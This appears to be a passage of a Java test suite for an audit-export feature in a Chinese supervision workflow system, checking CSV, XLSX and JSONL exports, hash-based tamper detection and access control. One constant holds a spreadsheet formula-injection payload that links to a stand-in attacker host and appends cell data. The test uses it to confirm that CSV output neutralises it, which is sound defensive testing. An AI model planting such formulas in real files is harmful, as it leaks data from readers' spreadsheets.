package cn.duban.audit;

import cn.duban.testing.PostgresWebTest;
import static org.assertj.core.api.Assertions.assertThat;

import cn.duban.identity.Roles;
import cn.duban.testing.CleanSlate;
import cn.duban.simulation.Simulation;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.Date;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.history.HistoricDecisionInstance;
import org.camunda.bpm.engine.history.HistoricTaskInstance;
import org.camunda.bpm.engine.history.HistoricVariableUpdate;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Exports after the simulated demo year (12 January to 20 November 2024: plans, reviews, reports, ratings,
 * reminders, escalations, task forces, changes, closures, monthly scorecards), plus authenticated work on one commitment so the user operation log, attachments,
 * comments and incidents have rows. Row counts are compared with the engine's public history API where it has one.
 */
@PostgresWebTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditExportTest {

    static final String PASSWORD = "Audit-Test-Passw0rd";
    static final String AUDITOR = "axauditor";
    /** What a spreadsheet would run: a link that sends the reader elsewhere. */
    static final String FORMULA_COMMENT = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";
    /** Text an export must carry as it is: tabs, line ends, backslashes that look like escapes. */
    static final String CONTROL_TEXT = "第一行\t制表符\n第二行\r\n反斜杠 \\ 与 \\N、\\x41、\\101、\\t结束\\";
    /** As a variable: XLSX cells hold line ends as a line feed ({@link XlsxWriter#cellTexts}), so no tab or return here. */
    static final String BACKSLASH_TEXT = "第一行\n反斜杠 \\ 与 \\N、\\x41、\\101、\\t结束\\";
    static final byte[] ATTACHMENT = "第一季度进度证明材料".getBytes(StandardCharsets.UTF_8);

    @Autowired
    ProcessEngine engine;
    @Autowired
    Simulation simulation;
    @Autowired
    AuditExporter exporter;
    @Autowired
    JdbcTemplate jdbc;
    @LocalServerPort
    int port;

    private String commitment;
    private String instance;
    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeAll
    void simulateTheDemoYearAndWorkOneCommitmentAuthenticated() {
        CleanSlate.reset(engine.getRuntimeService(), engine.getHistoryService(), jdbc);
        jdbc.execute("delete from export_record");
        simulation.run(LocalDateTime.of(2024, 1, 12, 9, 0), LocalDateTime.of(2024, 11, 20, 9, 0));
        user(AUDITOR, Roles.AUDITORS);
        user("axclerk", "gongxin");
        user("axsupervisor", Roles.SUPERVISION_OFFICE);
        user("axadmin", Roles.ADMINISTRATORS);

        // the commitment with the most ratings that still has an open task
        for (String candidate : jdbc.queryForList("select commitment_id from rating_record group by commitment_id "
                + "order by count(*) desc, commitment_id", String.class)) {
            List<Task> open = engine.getTaskService().createTaskQuery().processInstanceBusinessKey(candidate).list();
            if (!open.isEmpty()) {
                commitment = candidate;
                instance = open.get(0).getProcessInstanceId();
                workAuthenticated(open.get(0));
                break;
            }
        }
        assertThat(commitment).as("a commitment with ratings and an open task").isNotNull();
    }

    private void workAuthenticated(Task task) {
        // the administrator's group passes every authorization check; the operation log records authenticated work only
        engine.getIdentityService().setAuthentication("axadmin", List.of(Roles.ADMINISTRATORS));
        try {
            engine.getTaskService().claim(task.getId(), "axclerk");
            engine.getTaskService().setVariable(task.getId(), "auditNote", "第一次说明");
            engine.getTaskService().setVariable(task.getId(), "auditNote", "第二次说明：已补充材料");
            engine.getTaskService().createAttachment("text/plain", task.getId(), instance, "进度证明（第一季度）.txt", "测试附件",
                    new ByteArrayInputStream(ATTACHMENT));
            engine.getTaskService().createComment(task.getId(), instance, "审计测试评论：请补充说明");
            engine.getTaskService().createComment(task.getId(), instance, FORMULA_COMMENT);
            engine.getTaskService().createComment(task.getId(), instance, CONTROL_TEXT);
            engine.getTaskService().setVariable(task.getId(), "auditControl", BACKSLASH_TEXT);
            engine.getTaskService().setVariable(task.getId(), "auditDelta", -5L);
            engine.getRuntimeService().createIncident("auditTest", task.getExecutionId(), "cfg", "模拟故障：外部系统无响应");
        } finally {
            engine.getIdentityService().clearAuthentication();
        }
    }

    @Test
    void wholePeriodAsCsvHasEveryRowOfTheDatabaseAndVerifies(@org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        Path file = folder.resolve("all.zip");
        ExportResult result = export(ExportFilter.everything(), ExportFormat.CSV, file);

        Map<String, byte[]> files = unzip(file);
        Map<String, Long> expected = expectedCounts(null);
        Map<String, Long> exported = new LinkedHashMap<>();
        for (String table : expected.keySet()) {
            exported.put(table, (long) csv(files.get(table + ".csv")).size() - 2);
        }
        assertThat(exported).isEqualTo(expected);
        assertThat(result.manifest().files()).filteredOn(entry -> expected.containsKey(entry.table()))
                .extracting(Manifest.Entry::rows).containsExactlyElementsOf(expected.values());
        assertThat(result.manifest().files()).filteredOn(entry -> !entry.table().equals("evidence"))
                .extracting(Manifest.Entry::table).endsWith("timeline", "field_dictionary");
        // scorecards are not simulated yet; every other table must have rows for the comparison to mean something
        assertThat(expected).as("tables the simulated months and the authenticated work fill")
                .allSatisfy((table, count) -> assertThat(count > 0 || table.startsWith("scorecard")).as(table).isTrue());
        assertThat(ExportVerifier.verify(file).problems()).isEmpty();
        assertThat(jdbc.queryForMap("select actor, channel, format, status, chain_hash, row_count from export_record where id = ?",
                result.exportId())).containsEntry("actor", AUDITOR).containsEntry("status", "COMPLETED")
                .containsEntry("chain_hash", result.manifest().chainHash())
                .containsEntry("row_count", result.manifest().totalRows());
    }

    @Test
    void afterTheSimulatedYearTheExportNamesWhoDidEveryRecordedActionAndWhen(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path file = folder.resolve("year.zip");
        export(ExportFilter.everything(), ExportFormat.JSONL, file);
        Map<String, byte[]> files = unzip(file);

        assertEveryRowNames(files, "progress_report", "reporter", "reported_at", row -> true);
        assertEveryRowNames(files, "rating_record", "reporter", "rated_at", row -> true);
        assertEveryRowNames(files, "commitment_baseline", "approved_by", "approved_at", row -> true);
        assertEveryRowNames(files, "supervision_notice", "issued_by", "issued_at", row -> true);
        assertEveryRowNames(files, "supervision_notice", "plan_filed_by", "plan_filed_at", row -> !row.path("corrective_plan").isNull());
        assertEveryRowNames(files, "change_request", "requested_by", "requested_at", row -> true);
        assertEveryRowNames(files, "change_request", "reviewed_by", "reviewed_at", row -> !row.path("review_decision").isNull());
        assertEveryRowNames(files, "change_request", "decided_by", "decided_at", row -> !row.path("decision").isNull());
        assertEveryRowNames(files, "closure_record", "applied_by", "applied_at", row -> true);
        assertEveryRowNames(files, "closure_record", "verified_by", "verified_at", row -> !row.path("decision").isNull());

        // every task a person completed: the operation log names the person, who is the task's assignee
        Map<String, String> completedBy = new java.util.HashMap<>();
        for (JsonNode operation : jsonLines(files, "user_operation")) {
            if ("Complete".equals(operation.path("operation_type").asText()) && !operation.path("task_id").isNull()) {
                completedBy.put(operation.path("task_id").asText(), operation.path("user_id").asText());
            }
        }
        List<JsonNode> completed = jsonLines(files, "task_instance").stream()
                .filter(task -> "completed".equals(task.path("outcome").asText())).toList();
        assertThat(completed).as("tasks completed in the simulated year").hasSizeGreaterThan(500);
        for (JsonNode task : completed) {
            String id = task.path("id").asText();
            assertThat(completedBy.get(id)).as("who completed task %s (%s)", id, task.path("name").asText())
                    .isNotBlank().isEqualTo(task.path("assignee").asText());
        }
    }

    private static void assertEveryRowNames(Map<String, byte[]> files, String table, String actor, String time,
            java.util.function.Predicate<JsonNode> personActed) throws IOException {
        List<JsonNode> rows = jsonLines(files, table).stream().filter(personActed).toList();
        assertThat(rows).as("%s rows where a person acted", table).isNotEmpty();
        for (JsonNode row : rows) {
            assertThat(row.path(actor).asText("")).as("%s.%s of %s", table, actor, row).isNotBlank();
            assertThat(row.path(time).asText("")).as("%s.%s of %s", table, time, row).isNotBlank();
        }
    }

    private static List<JsonNode> jsonLines(Map<String, byte[]> files, String table) throws IOException {
        List<JsonNode> rows = new java.util.ArrayList<>();
        for (String line : new String(files.get(table + ".jsonl"), StandardCharsets.UTF_8).split("\n")) {
            if (!line.isBlank()) {
                rows.add(new com.fasterxml.jackson.databind.ObjectMapper().readTree(line));
            }
        }
        return rows;
    }

    @Test
    void csvFilesCarryABomAndChineseTextAsInTheEngine(@org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        Path file = folder.resolve("one.zip");
        export(filterOf(commitment), ExportFormat.CSV, file);

        byte[] tasks = unzip(file).get("task_instance.csv");
        assertThat(tasks).startsWith(0xEF, 0xBB, 0xBF);
        List<List<String>> rows = csv(tasks);
        assertThat(rows.get(0)).contains("任务名称", "办理人", "创建时间（北京时间）");
        int name = rows.get(1).indexOf("name");
        List<String> engineNames = engine.getHistoryService().createHistoricTaskInstanceQuery().processInstanceId(instance)
                .list().stream().map(HistoricTaskInstance::getName).toList();
        assertThat(rows.subList(2, rows.size())).extracting(row -> row.get(name))
                .containsExactlyInAnyOrderElementsOf(engineNames)
                .anyMatch(text -> text.startsWith("进度月报"));
    }

    @Test
    void oneCommitmentAsXlsxMatchesTheEngineFieldByField(@org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        Path file = folder.resolve("one.xlsx");
        export(filterOf(commitment), ExportFormat.XLSX, file);

        Map<String, List<Map<String, String>>> sheets = readWorkbook(file);
        Map<String, Long> exported = new LinkedHashMap<>();
        sheets.forEach((table, rows) -> exported.put(table, (long) rows.size()));
        exported.keySet().removeAll(List.of("timeline", "field_dictionary"));
        assertThat(exported).isEqualTo(expectedCounts(instance));

        HistoryService history = engine.getHistoryService();
        for (Map<String, String> row : sheets.get("task_instance")) {
            HistoricTaskInstance task = history.createHistoricTaskInstanceQuery().taskId(row.get("id")).singleResult();
            assertThat(row).containsEntry("business_key", commitment)
                    .containsEntry("name", task.getName())
                    .containsEntry("task_definition_key", task.getTaskDefinitionKey())
                    .containsEntry("assignee", task.getAssignee())
                    .containsEntry("created", time(task.getStartTime()))
                    .containsEntry("end_time", time(task.getEndTime()))
                    .containsEntry("due_date", time(task.getDueDate()))
                    .containsEntry("outcome", task.getDeleteReason());
            assertThat(row.get("candidate_groups")).isNotBlank();
        }
        assertThat(sheets.get("task_instance")).filteredOn(row -> "axclerk".equals(row.get("assignee")))
                .singleElement().satisfies(row -> assertThat(row.get("claimed")).isNotNull());

        List<HistoricVariableUpdate> updates = history.createHistoricDetailQuery().processInstanceId(instance).variableUpdates()
                .list().stream().map(HistoricVariableUpdate.class::cast).toList();
        Map<String, Map<String, String>> changes = sheets.get("variable_change").stream()
                .collect(Collectors.toMap(row -> row.get("id"), Function.identity()));
        for (HistoricVariableUpdate update : updates) {
            Map<String, String> row = changes.get(update.getId());
            assertThat(row).containsEntry("name", update.getVariableName())
                    .containsEntry("change_time", time(update.getTime()))
                    .containsEntry("revision", Integer.toString(update.getRevision()));
            if (update.getValue() instanceof String || update.getValue() instanceof Number || update.getValue() instanceof Boolean) {
                assertThat(row).containsEntry("new_value", update.getValue().toString());
            }
        }
        List<Map<String, String>> notes = sheets.get("variable_change").stream()
                .filter(row -> "auditNote".equals(row.get("name")))
                .sorted(Comparator.comparing(row -> Long.parseLong(row.get("sequence_counter")))).toList();
        assertThat(notes).extracting(row -> row.get("old_value") + " → " + row.get("new_value"))
                .containsExactly("null → 第一次说明", "第一次说明 → 第二次说明：已补充材料");
        assertThat(notes).allSatisfy(row -> assertThat(row).containsEntry("actor", "axadmin"));

        assertThat(sheets.get("attachment")).singleElement().satisfies(row -> assertThat(row)
                .containsEntry("name", "进度证明（第一季度）.txt")
                .containsEntry("size_bytes", Integer.toString(ATTACHMENT.length))
                .containsEntry("sha256", Cells.sha256(ATTACHMENT)));
        assertThat(sheets.get("incident")).singleElement()
                .satisfies(row -> assertThat(row).containsEntry("message", "模拟故障：外部系统无响应"));
        assertThat(sheets.get("user_operation")).extracting(row -> row.get("operation_type")).contains("Claim", "SetVariable");

        HistoricDecisionInstance decision = history.createHistoricDecisionInstanceQuery().processInstanceId(instance)
                .includeOutputs().list().get(0);
        assertThat(sheets.get("decision_output")).filteredOn(row -> decision.getId().equals(row.get("decision_instance_id")))
                .extracting(row -> row.get("variable_name") + "=" + row.get("output_value"))
                .containsExactlyInAnyOrderElementsOf(decision.getOutputs().stream()
                        .map(output -> output.getVariableName() + "=" + output.getValue()).toList());
        assertThat(sheets.get("rating_record")).extracting(row -> row.get("commitment_id")).containsOnly(commitment);
        assertThat(ExportVerifier.verify(file).problems()).isEmpty();
    }

    @Test
    void periodAsJsonLinesHoldsExactlyTheRowsOfThePeriod(@org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        Path file = folder.resolve("february.zip");
        ExportFilter february = ExportFilter.parse(null, null, "2024-02-01", "2024-02-29");
        export(february, ExportFormat.JSONL, file);

        ObjectMapper json = new ObjectMapper();
        List<JsonNode> activities = new ArrayList<>();
        for (String line : new String(unzip(file).get("activity_instance.jsonl"), StandardCharsets.UTF_8).split("\n")) {
            activities.add(json.readTree(line));
        }
        long inEngine = engine.getHistoryService().createHistoricActivityInstanceQuery()
                .startedAfter(date(LocalDate.of(2024, 2, 1).atStartOfDay()))
                .startedBefore(date(LocalDate.of(2024, 3, 1).atStartOfDay().minusNanos(1_000_000))).count();
        assertThat(activities).hasSize((int) inEngine)
                .allSatisfy(row -> assertThat(row.get("start_time").asText()).startsWith("2024-02-"))
                .anySatisfy(row -> assertThat(row.get("activity_name").asText()).contains("进度填报"));
        assertThat(ExportVerifier.verify(file).problems()).isEmpty();
    }

    @Test
    void tabsLineEndsAndBackslashesComeBackAsTheEngineStoredThem(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        // in the comment (read from its bytes) and in the variable's new value (read from its text)
        Path jsonFile = folder.resolve("control.zip");
        export(filterOf(commitment), ExportFormat.JSONL, jsonFile);
        ObjectMapper json = new ObjectMapper();
        Map<String, byte[]> files = unzip(jsonFile);
        List<String> messages = new ArrayList<>();
        for (String line : new String(files.get("comment.jsonl"), StandardCharsets.UTF_8).split("\n")) {
            messages.add(json.readTree(line).get("message").asText());
        }
        assertThat(messages).contains(CONTROL_TEXT, FORMULA_COMMENT);
        List<String> values = new ArrayList<>();
        for (String line : new String(files.get("variable_change.jsonl"), StandardCharsets.UTF_8).split("\n")) {
            JsonNode row = json.readTree(line);
            if ("auditControl".equals(row.get("name").asText())) {
                values.add(row.get("new_value").asText());
            }
        }
        assertThat(values).containsExactly(BACKSLASH_TEXT);
    }

    @Test
    void formulaTextIsNeutralisedInCsvWhileNumbersAndJsonLinesStayExactAndBothVerify(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path csvFile = folder.resolve("one.zip");
        Path jsonFile = folder.resolve("one-jsonl.zip");
        export(filterOf(commitment), ExportFormat.CSV, csvFile);
        export(filterOf(commitment), ExportFormat.JSONL, jsonFile);

        List<List<String>> comments = csv(unzip(csvFile).get("comment.csv"));
        int message = comments.get(1).indexOf("message");
        assertThat(comments).extracting(row -> row.get(message)).contains("'" + FORMULA_COMMENT).doesNotContain(FORMULA_COMMENT);
        List<List<String>> changes = csv(unzip(csvFile).get("variable_change.csv"));
        int name = changes.get(1).indexOf("name");
        int newValue = changes.get(1).indexOf("new_value");
        assertThat(changes).filteredOn(row -> "auditDelta".equals(row.get(name))).extracting(row -> row.get(newValue))
                .containsExactly("-5");
        ObjectMapper json = new ObjectMapper();
        List<String> jsonMessages = new ArrayList<>();
        for (String line : new String(unzip(jsonFile).get("comment.jsonl"), StandardCharsets.UTF_8).split("\n")) {
            jsonMessages.add(json.readTree(line).get("message").asText());
        }
        assertThat(jsonMessages).contains(FORMULA_COMMENT);
        assertThat(ExportVerifier.verify(csvFile).problems()).isEmpty();
        assertThat(ExportVerifier.verify(jsonFile).problems()).isEmpty();
    }

    @Test
    void everyEvidenceFileOfTheYearIsInTheExportWithItsHashAndVerifyNamesAChangedOne(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path file = folder.resolve("evidence.zip");
        ExportResult result = export(ExportFilter.everything(), ExportFormat.CSV, file);
        Map<String, byte[]> files = unzip(file);
        Map<String, String> stored = new LinkedHashMap<>();
        jdbc.queryForList("select id, sha256 from evidence_file").forEach(row ->
                stored.put(String.valueOf(row.get("id")), (String) row.get("sha256")));
        assertThat(stored).as("the simulation attaches evidence to closures and quarter-end reports").hasSizeGreaterThan(25);
        Map<String, String> exported = new LinkedHashMap<>();
        files.forEach((name, content) -> {
            if (name.startsWith("evidence/")) {
                exported.put(name.substring("evidence/".length(), name.indexOf('-')), cn.duban.system.Sha256.hex(content));
            }
        });
        assertThat(exported).isEqualTo(stored);
        assertThat(result.manifest().files()).filteredOn(entry -> entry.table().equals("evidence")).hasSize(stored.size())
                .allSatisfy(entry -> assertThat(entry.sha256()).isEqualTo(stored.get(
                        entry.file().substring("evidence/".length(), entry.file().indexOf('-')))));
        assertThat(ExportVerifier.verify(file).problems()).isEmpty();

        String victim = files.keySet().stream().filter(name -> name.startsWith("evidence/")).findFirst().orElseThrow();
        byte[] changed = files.get(victim).clone();
        changed[changed.length / 2] ^= 1;
        Map<String, byte[]> tampered = new LinkedHashMap<>(files);
        tampered.put(victim, changed);
        assertThat(ExportVerifier.verify(zip(folder.resolve("tampered.zip"), tampered)).problems())
                .singleElement().asString().contains(victim, "已被改动");
    }

    @Test
    void verifyNamesTheFileWhenAByteOrARowIsChangedOrAFileRemoved(@org.junit.jupiter.api.io.TempDir Path folder) throws IOException {
        Path original = folder.resolve("original.zip");
        export(filterOf(commitment), ExportFormat.CSV, original);
        Map<String, byte[]> files = unzip(original);

        byte[] tasks = files.get("task_instance.csv").clone();
        String latin = new String(tasks, StandardCharsets.ISO_8859_1);
        // past both header rows: a data cell
        int comma = latin.indexOf(',', latin.indexOf("\r\n", latin.indexOf("\r\n") + 2) + 50);
        tasks[comma - 1] = (byte) (tasks[comma - 1] == '1' ? '2' : '1');
        Map<String, byte[]> oneByte = new LinkedHashMap<>(files);
        oneByte.put("task_instance.csv", tasks);
        assertThat(ExportVerifier.verify(zip(folder.resolve("byte.zip"), oneByte)).problems())
                .singleElement().asString().contains("task_instance.csv", "已被改动");

        String reports = new String(files.get("progress_report.csv"), StandardCharsets.UTF_8);
        Map<String, byte[]> oneRow = new LinkedHashMap<>(files);
        oneRow.put("progress_report.csv", reports.substring(0, reports.lastIndexOf("\r\n", reports.length() - 3) + 2)
                .getBytes(StandardCharsets.UTF_8));
        long rows = csv(files.get("progress_report.csv")).size() - 2;
        assertThat(ExportVerifier.verify(zip(folder.resolve("row.zip"), oneRow)).problems())
                .anySatisfy(problem -> assertThat(problem).contains("progress_report.csv 有 " + (rows - 1) + " 行，清单记载 " + rows + " 行"));

        Map<String, byte[]> oneFile = new LinkedHashMap<>(files);
        oneFile.remove("rating_record.csv");
        assertThat(ExportVerifier.verify(zip(folder.resolve("file.zip"), oneFile)).problems())
                .containsExactly("文件 rating_record.csv 缺失");
    }

    @Test
    void verifyNamesTheSheetWhenAWorkbookCellIsChangedAndRefusesACorruptedWorkbook(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path original = folder.resolve("original.xlsx");
        export(filterOf(commitment), ExportFormat.XLSX, original);

        Path edited = folder.resolve("edited.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(original)); OutputStream out = Files.newOutputStream(edited)) {
            // a new cell: POI would write a changed inline string where neither Excel nor a reader looks
            Row row = workbook.getSheet("进度填报").getRow(2);
            row.removeCell(row.getCell(0));
            row.createCell(0).setCellValue("9999");
            workbook.write(out);
        }
        assertThat(ExportVerifier.verify(edited).problems()).singleElement().asString()
                .contains("工作表 进度填报", "已被改动");

        byte[] bytes = Files.readAllBytes(original);
        bytes[bytes.length / 2] ^= 0x55;
        Path corrupted = Files.write(folder.resolve("corrupted.xlsx"), bytes);
        Verification verification = ExportVerifier.verify(corrupted);
        assertThat(verification.passed()).isFalse();
        assertThat(verification.report()).contains("corrupted.xlsx");
    }

    @Test
    void auditorDownloadsOverRestAndTheExportIsRecorded() throws Exception {
        HttpResponse<byte[]> response = get(AUDITOR, "/duban/api/audit/export?format=csv&commitment=" + commitment);

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/zip");
        assertThat(response.headers().firstValue("Content-Disposition")).get().asString()
                .matches("attachment; filename=\"duban-audit-\\d{8}-\\d{6}-csv\\.zip\"; "
                        + "filename\\*=UTF-8''%E7%9D%A3%E5%8A%9E%E5%AE%A1%E8%AE%A1%E5%AF%BC%E5%87%BA-\\d{8}-\\d{6}-csv\\.zip");
        Path file = Files.createTempFile("rest-export", ".zip");
        Files.write(file, response.body());
        Verification verification = ExportVerifier.verify(file);
        assertThat(verification.problems()).isEmpty();
        assertThat(jdbc.queryForMap("select actor, channel, status, chain_hash, filter from export_record where id = ?",
                verification.manifest().exportId()))
                .containsEntry("actor", AUDITOR).containsEntry("channel", "rest").containsEntry("status", "COMPLETED")
                .containsEntry("chain_hash", verification.manifest().chainHash())
                .containsEntry("filter", "commitments=[" + commitment + "] bureaus=[] from=- to=-");
        Files.delete(file);
    }

    @Test
    void everyoneButAuditorsIsRefusedAndNothingIsRecorded() throws Exception {
        long before = exportRecords();

        assertThat(get(null, "/duban/api/audit/export").statusCode()).isEqualTo(401);
        for (String user : List.of("axclerk", "axsupervisor", "axadmin")) {
            HttpResponse<byte[]> response = get(user, "/duban/api/audit/export?format=csv");
            assertThat(response.statusCode()).isEqualTo(403);
            assertThat(new String(response.body(), StandardCharsets.UTF_8)).contains("只有审计人员");
        }
        assertThat(exportRecords()).isEqualTo(before);
    }

    @Test
    void badParametersAreRefusedNamingTheParameter() throws Exception {
        long before = exportRecords();
        Map<String, String> named = Map.of(
                "format=pdf", "format",
                "from=2024-13-01", "from",
                "from=2024-03-01&to=2024-02-01", "from",
                "commitment=2099-01-01", "commitment",
                "bureau=nosuchbureau", "bureau",
                "comitment=2024-02-01", "comitment");
        for (Map.Entry<String, String> request : named.entrySet()) {
            HttpResponse<byte[]> response = get(AUDITOR, "/duban/api/audit/export?" + request.getKey());
            JsonNode body = new ObjectMapper().readTree(response.body());
            assertThat(response.statusCode()).as(request.getKey()).isEqualTo(400);
            assertThat(body.get("parameter").asText()).as(request.getKey()).isEqualTo(request.getValue());
            assertThat(body.get("message").asText()).startsWith("参数 " + request.getValue() + "：");
        }
        assertThat(exportRecords()).isEqualTo(before);
    }

    @Test
    void workbookReadsInChineseWithFieldNamesBelowAndTheManifestAsATable(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path file = folder.resolve("one.xlsx");
        ExportResult result = export(filterOf(commitment), ExportFormat.XLSX, file);

        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(file))) {
            List<String> names = new ArrayList<>();
            workbook.forEach(sheet -> names.add(sheet.getSheetName()));
            assertThat(names).startsWith("流程实例", "活动实例", "任务实例").endsWith("时间线", "字段说明", "清单")
                    .allSatisfy(name -> assertThat(name).containsPattern("\\p{IsHan}"));
            for (Sheet sheet : workbook) {
                if (sheet.getSheetName().equals(XlsxWriter.MANIFEST_SHEET)) {
                    continue;
                }
                for (var cell : sheet.getRow(0)) {
                    assertThat(cell.getStringCellValue()).as("Chinese header on %s", sheet.getSheetName())
                            .containsPattern("\\p{IsHan}|SHA-256");
                }
                for (var cell : sheet.getRow(1)) {
                    assertThat(cell.getStringCellValue()).as("field name on %s", sheet.getSheetName()).matches("[a-z0-9_]+");
                }
            }
            Sheet tasks = workbook.getSheet("任务实例");
            assertThat(tasks.getRow(0).getCell(0).getStringCellValue()).isEqualTo("记录编号");
            List<String> headers = new ArrayList<>();
            tasks.getRow(0).forEach(cell -> headers.add(cell.getStringCellValue()));
            assertThat(headers).contains("创建时间（北京时间）", "办理人", "候选组");

            Map<String, String> facts = new HashMap<>();
            List<List<String>> tables = new ArrayList<>();
            for (Row row : workbook.getSheet("清单")) {
                List<String> cells = new ArrayList<>();
                row.forEach(cell -> cells.add(cell.getStringCellValue()));
                if (row.getCell(6) != null && "file".equals(row.getCell(6).getStringCellValue())) {
                    tables.add(cells);
                } else if (row.getCell(1) != null) {
                    facts.put(row.getCell(0).getStringCellValue(), row.getCell(1).getStringCellValue());
                }
            }
            assertThat(facts).containsEntry("链式哈希", result.manifest().chainHash())
                    .containsEntry("导出人", AUDITOR).containsEntry("筛选：承诺事项", commitment)
                    .containsEntry("时区", "Asia/Shanghai（北京时间，UTC+08:00）");
            assertThat(tables).hasSize(result.manifest().files().size())
                    .anySatisfy(row -> assertThat(row).startsWith("时间线", "timeline"))
                    .anySatisfy(row -> assertThat(row).startsWith("任务实例", "task_instance", "任务实例"));
            Sheet dictionary = workbook.getSheet("字段说明");
            assertThat(dictionary.getLastRowNum()).isGreaterThan(200);
        }
        assertThat(ExportVerifier.verify(file).problems()).isEmpty();
    }

    @Test
    void timelineOfACommitmentNamesWhoDidWhatAndWhenAsTheEngineAndDubanRecordIt(@org.junit.jupiter.api.io.TempDir Path folder)
            throws IOException {
        Path file = folder.resolve("timeline.zip");
        ExportResult result = export(filterOf(commitment), ExportFormat.JSONL, file);

        List<JsonNode> timeline = jsonLines(unzip(file), "timeline");
        assertThat(timeline).isNotEmpty().allSatisfy(row -> {
            assertThat(row.path("commitment_id").asText()).isEqualTo(commitment);
            assertThat(row.path("actor").asText("")).as("actor of %s", row).isNotBlank();
            assertThat(row.path("event_time").asText("")).as("time of %s", row).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d.*");
            assertThat(row.path("action").asText("")).isNotBlank();
        });
        assertThat(timeline).extracting(row -> row.path("event_time").asText()).isSorted();
        Map<String, JsonNode> byId = timeline.stream().collect(Collectors.toMap(row -> row.path("id").asText(), row -> row));

        // every task completed in the engine, with its assignee and its end time
        List<HistoricTaskInstance> completed = engine.getHistoryService().createHistoricTaskInstanceQuery()
                .processInstanceId(instance).finished().list();
        assertThat(completed).isNotEmpty();
        for (HistoricTaskInstance task : completed) {
            JsonNode row = byId.get("task:" + task.getId() + ":ended");
            assertThat(row).as("timeline row of task %s", task.getName()).isNotNull();
            assertThat(row.path("event_time").asText()).isEqualTo(time(task.getEndTime()));
            assertThat(row.path("action").asText()).contains(task.getName());
            if (task.getAssignee() != null) {
                assertThat(row.path("actor").asText()).isEqualTo(task.getAssignee());
            }
        }
        // each progress report by its reporter, each rating before → after with its reason
        for (Map<String, Object> report : jdbc.queryForList("select id, reporter, period from progress_report where commitment_id = ?",
                commitment)) {
            JsonNode row = byId.get("progress_report:" + report.get("id"));
            assertThat(row.path("actor").asText()).isEqualTo(report.get("reporter"));
            assertThat(row.path("action").asText()).startsWith("进度填报：" + report.get("period"));
        }
        for (Map<String, Object> rating : jdbc.queryForList("select id, rating, previous_rating, reason from rating_record "
                + "where commitment_id = ?", commitment)) {
            JsonNode row = byId.get("rating_record:" + rating.get("id"));
            assertThat(row.path("after_value").asText()).isEqualTo(rating.get("rating"));
            assertThat(row.path("before_value").isNull() ? null : row.path("before_value").asText()).isEqualTo(rating.get("previous_rating"));
            assertThat(row.path("reason").asText()).isEqualTo(rating.get("reason"));
        }
        // the authenticated claim and variable changes of the operation log, by who did them
        assertThat(timeline).filteredOn(row -> row.path("id").asText().startsWith("user_operation:"))
                .anySatisfy(row -> assertThat(row.path("action").asText() + " " + row.path("actor").asText())
                        .startsWith("用户操作：Claim").endsWith(" axadmin"));
        assertThat(timeline).anySatisfy(row -> assertThat(row.path("action").asText()).isEqualTo("评论"));
        assertThat(result.manifest().files()).filteredOn(entry -> entry.table().equals("timeline")).singleElement()
                .satisfies(entry -> assertThat(entry.rows()).isEqualTo(timeline.size()));
    }

    @Test
    void auditorsAndAdministratorsSeeEveryExportAndOthersAreRefusedInChinese() throws Exception {
        HttpResponse<byte[]> download = get(AUDITOR, "/duban/api/audit/export?format=jsonl&commitment=" + commitment);
        assertThat(download.statusCode()).isEqualTo(200);
        long newest = jdbc.queryForObject("select max(id) from export_record", Long.class);

        for (String user : List.of(AUDITOR, "axadmin")) {
            HttpResponse<byte[]> response = get(user, "/duban/api/audit/exports");
            assertThat(response.statusCode()).as(user).isEqualTo(200);
            JsonNode body = new ObjectMapper().readTree(response.body());
            assertThat(body.get("exports")).hasSize((int) exportRecords());
            JsonNode first = body.get("exports").get(0);
            assertThat(first.get("id").asLong()).isEqualTo(newest);
            assertThat(first.get("actor").asText()).isEqualTo(AUDITOR);
            assertThat(first.get("format").asText()).isEqualTo("jsonl");
            assertThat(first.get("status").asText()).isEqualTo("COMPLETED");
            assertThat(first.get("filter").asText()).contains(commitment);
            assertThat(first.get("rows").asLong()).isPositive();
            assertThat(first.get("chainHash").asText()).hasSize(64);
